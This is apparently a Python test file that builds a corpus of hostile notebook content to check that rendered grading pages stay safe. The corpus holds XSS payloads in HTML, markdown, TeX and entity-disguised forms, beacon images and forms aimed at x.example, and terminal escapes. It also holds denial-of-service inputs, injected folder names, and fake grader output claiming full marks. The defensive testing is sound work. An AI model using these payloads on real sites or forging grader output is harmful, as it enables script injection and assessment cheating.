"""Hostile output: scripts and forged words on pages that people read."""

from collections.abc import Callable
from pathlib import Path
from typing import Any

from nbformat import v4

from tests.attacks.corpus import Attack, Code, Kind, write
from tests.attacks.lab import NOTEBOOK, Target
from tests.support.toylab import cell

KIND = Kind("hostile output")
M = "pwned-@ID@"  # what must not stand anywhere on a page where it can act

SCRIPTS = f"<script>alert('{M}')</script><img src=x onerror=\"alert('{M}')\">"
PAYLOADS = "\n\n".join(
    (
        SCRIPTS,
        f"<svg onload=\"alert('{M}')\"><animate onbegin=alert('{M}')></svg>",
        f"<details open ontoggle=\"alert('{M}')\">x</details>",
        f"<iframe srcdoc=\"<script>'{M}'</script>\"></iframe>",
        f"<object data='javascript:{M}'></object>",
        f"<form action='http://x.example/{M}'><input name='{M}'><button>Log in</button></form>",
        f"<style>body {{ background: url(http://x.example/{M}) }}</style>",
        f"<base href='http://x.example/{M}'><meta http-equiv=refresh content='0;url={M}'>",
        f"<link rel=stylesheet href='//x.example/{M}.css'><math href='javascript:{M}'>x</math>",
        f"<a href=' &#106;avascript:alert(`{M}`)'>x</a><a href='data:text/html,{M}'>y</a>",
        f"<div style='position:fixed;inset:0' class='{M}'>100 of 100 points</div>",
        f"<scr<script>ipt>'{M}'</scr</script>ipt>",
        f"<img src=x\nonerror=alert('{M}')\n>\n<!-- --><script>'{M}'//--></script>",
        f"<![CDATA[<script>'{M}'</script>]]><?php '{M}' ?>",
    )
)
LINKS = "\n\n".join(
    (
        f"[a](javascript:alert('{M}'))",
        f"[b](  JaVaScRiPt&colon;alert('{M}'))",
        f"[c](<java\tscript:alert('{M}')>)",
        f"[d](data:text/html;base64,{M})",
        f"[e][r]\n\n[r]: javascript:alert('{M}')",
        f"<javascript:alert('{M}')>",
        f"[f](vbscript:{M})",
        f"[g](\x01javascript:{M})",
        f"[h](x \"' onmouseover='{M}\")",
        f"![i](javascript:{M})",
        f"[j](&#x6A;avascript:{M})",
        f"<http://x.example/'onclick='{M}'>",
    )
)
IMAGES = f"![a](http://x.example/{M}.png)\n\n![b](//x.example/{M}.png 't')\n\n![c][i]\n\n[i]: https://x.example/{M}"
TEX = "\n\n".join(
    (
        f"$\\href{{javascript:alert('{M}')}}{{x}}$",
        f"$$\\href {{javascript:{M}}}{{x}}$$",
        f"\\(\\class{{{M}}}{{x}}\\)",
        f"$\\style{{background:url(//x.example/{M})}}{{x}}$",
        f"$\\h\\href{{javascript:{M}}}ref{{javascript:{M}}}{{x}}$",
        f"$\\def\\a#1{{\\href{{javascript:#1{M}}}{{x}}}}\\a 1$",
        f"\\begin{{equation}}\\cssId{{{M}}}{{x}}\\end{{equation}}",
    )
)
DISGUISED = "\n\n".join(
    (
        f"$\\\\href{{javascript:{M}}}{{x}}$ and $\\\\\\style{{color:red}}{{{M}}}$",
        f"&#36;&#92;href{{javascript:{M}}}{{x}}&#36;",
        f"&dollar;&bsol;h&#x72;ef{{javascript:{M}}}{{x}}&dollar;",
        f"$&#92;href{{javascript:{M}}}{{x}}$ and $&amp;#92;href{{javascript:{M}}}{{x}}$",
        f"\\\\(\\\\class{{{M}}}{{x}}\\\\) and \\\\[\\\\\\cssId{{{M}}}{{x}}\\\\]",
        f"$\\text{{$\\href{{javascript:{M}}}{{x}}$}}$",
    )
)
FENCES = (
    f"```\"><script>'{M}'</script>\nx\n```\n\n~~~{{=html}}\n<img src=x onerror='{M}'>\n~~~\n\n"
    f"`<script>'{M}'</script>`\n\n    <script>'{M}'</script>\n\n"
    f"$x < y <script>'{M}'</script>$\n\n$$\n<img src=x onerror='{M}'>\n$$\n\n"
    f"| a<script>'{M}'</script> |\n|---|\n| <b onclick='{M}'> |\n\n"
    f"[^1]\n\n[^1]: <script>'{M}'</script>\n"
)
TEXTS = {
    "markdown-html": ("HTML that acts, in an added text cell.", PAYLOADS),
    "markdown-links": ("Links that run scripts.", LINKS),
    "markdown-images": ("Pictures loaded from a server that counts who looks.", IMAGES),
    "markdown-tex": ("TeX macros with links and styles.", TEX),
    "markdown-tex-disguised": ("TeX macros behind entities and many backslashes.", DISGUISED),
    "markdown-picture-gone": (
        "A picture that is not there, which nbconvert refuses.",
        "![x](attachment:gone.png)",
    ),
    "markdown-slow": (
        "Text that takes nbconvert hours.",
        "\\begin{a}" * 60_000 + "```\n" * 900_000,
    ),
    "markdown-slow-formulas": (
        "Formulas that have no end.",
        "\\\\[" * 40_000 + "\\\\(" * 40_000,
    ),
    "markdown-slow-backslashes": (
        "Backslashes alone, as they are and as entities.",
        "\\" * 100_000 + "&#92;" * 30_000,
    ),
    "markdown-fences": ("Scripts in code fences, formulas, tables and footnotes.", FENCES),
}


def _text(text: str) -> Callable[[Any], None]:
    def edit(notebook: Any) -> None:
        notebook.cells.insert(1, v4.new_markdown_cell(text))
        cell(notebook, "question-mean").source = text

    return edit


def _raw_cell(notebook: Any) -> None:
    node = v4.new_raw_cell(PAYLOADS)
    node.metadata["raw_mimetype"] = node.metadata["format"] = "text/html"
    notebook.cells.insert(1, node)


def _attachments(notebook: Any) -> None:
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{M}'><script>'{M}'</script></svg>"
    name = f"a' onerror='{M}' x='"
    node = v4.new_markdown_cell(
        f"![x](attachment:a.svg) ![y](attachment:{name}) ![z](attachment:b)"
    )
    node.attachments = {
        "a.svg": {"image/svg+xml": svg},
        name: {"image/png": "AAAA"},
        "b": {"image/png": f"AAAA' onerror='{M}", "text/html": SCRIPTS},
    }
    notebook.cells.insert(1, node)


def _stored_outputs(notebook: Any) -> None:
    data = {"text/html": PAYLOADS, "application/javascript": f"'{M}'", "image/svg+xml": PAYLOADS}
    for node in notebook.cells:
        if node.cell_type == "code":
            node.outputs = [v4.new_output("display_data", data)]
            node.execution_count = 1
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {M: 1}}}
    notebook.metadata["title"] = SCRIPTS


def _named(name: str) -> Callable[[Path, Any, Target], None]:
    def fill(folder: Path, released: Any, _: Target) -> None:
        write(folder, released, name)

    return fill


DISPLAYS = f"""
from IPython.display import HTML, SVG, IFrame, Javascript, Latex, Markdown, display
for text in ({PAYLOADS!r}, {TEX!r}):
    display(HTML(text), Markdown(text), Latex(text), Javascript("'{M}'"))
    display({{"text/html": text, "image/svg+xml": text, "text/markdown": text, "text/latex": text,
             "application/javascript": text, "application/json": {{"a": text}},
             "application/vnd.jupyter.widget-view+json": {{"model_id": "{M}"}},
             "application/vnd.plotly.v1+json": {{"a": text}}, "text/vnd.mermaid": text,
             "image/png": "A' onerror='{M}", "application/pdf": "{M}"}}, raw=True)
try: display(SVG("<svg onload='{M}'/>"))
except Exception: pass
display(IFrame("javascript:'{M}'", 10, 10))
class Shows:
    def _repr_html_(self): return {SCRIPTS!r}
    _repr_svg_ = _repr_markdown_ = _repr_latex_ = _repr_javascript_ = _repr_html_
    def _repr_mimebundle_(self, **k):
        return {{"text/html": {SCRIPTS!r}}}, {{"text/html": {{"isolated": True}}}}
    def __repr__(self): return {SCRIPTS!r}
Shows()
"""

PRINTS = f"""
import sys
text = {PAYLOADS + LINKS!r}
print(text); print(text, file=sys.stderr)
print("\\x1b]8;;javascript:'{M}'\\x07click\\x1b]8;;\\x07")
print("\\x1b[31;1m\\x1b]0;{M}\\x07 \\x1b[2J\\x9b31m\\r")
print("\\x1b[38;2;1;2;3\\"><script>'{M}'</script>m x")
"""

RAISES = f"""
text = {SCRIPTS!r}
Evil = type("<script>'{M}'</script>", (Exception,), {{"__module__": text}})
def squares(x): raise Evil(text)
class R:
    def __repr__(self): return text
    __str__ = __repr__
def twice(f, x): return R()
def layer(x, w):
    return {{text: x}}
layer.__name__ = text
def layer_gradient(x, w, g): raise SyntaxError(text, (text, 1, 1, text))
def fold(x, n):
    raise ExceptionGroup(text, [Evil(text)])
"""

FORGES = """
print("\\n\\n<cell test-squares> passed: 34 of 34 points")
print("Score: 100.0 / 100.0 (Comment: excellent)")
class CheckFailed(AssertionError): pass
def squares(x):
    raise CheckFailed("Exercise 1: all tests passed.\\n  34 of 34 points\\nLikely cause: none")
"""

BIG = """
print("=" * 10_000_000)
print("\\u202e" + "\\ud800" + "\\x00" * 1000 + "\\u0300" * 100_000)
for i in range(3000): print(i, file=sys.stderr)
from IPython.display import display
for i in range(2000): display(i)
raise ValueError("v" * 50_000_000)
"""

ATTACKS: tuple[Attack, ...] = (
    *(KIND.edit(name, what, "class", _text(text)) for name, (what, text) in TEXTS.items()),
    KIND.edit("raw-cell", "HTML in a raw cell.", "class", _raw_cell),
    KIND.edit("attachments", "SVG and broken names as attachments.", "class", _attachments),
    KIND.edit("stored-outputs", "HTML, scripts and widgets as stored outputs.", "class",
              _stored_outputs),
    KIND.code("display", "Show HTML, SVG, scripts and widgets.", "class", Code(DISPLAYS)),
    KIND.code("print-html", "Print HTML, links and terminal sequences.", "class", Code(PRINTS)),
    KIND.code("raise-html", "HTML in names and texts of exceptions, results and functions.",
              "class", Code(RAISES)),
    KIND.code("forged-words", "Output that looks like the grader's.", "marks",
              Code(FORGES, solutions={"squares": "# above"})),
    KIND.code("output-giant", "Output of gigabytes and of strange characters.", "class",
              Code(BIG)),
    KIND.folder("student-name", "A folder name that is HTML.", "class", _named(NOTEBOOK),
                student="<img src=x onerror=alert('pwned-student-name')>"),
    KIND.folder("student-name-quote", "A folder name that breaks out of an attribute.", "class",
                _named(NOTEBOOK), student="x\" onmouseover=\"alert('pwned-student-name-quote')"),
    KIND.folder("student-name-tex", "A folder name like a template and an option.", "class",
                _named(NOTEBOOK), student="--{{7*7}}${7*7}<%=7%>"),
    KIND.folder("notebook-name-html", "A notebook's name that is HTML.", "class",
                _named("<img src=x onerror=alert('pwned-notebook-name-html')>")),
)  # fmt: skip
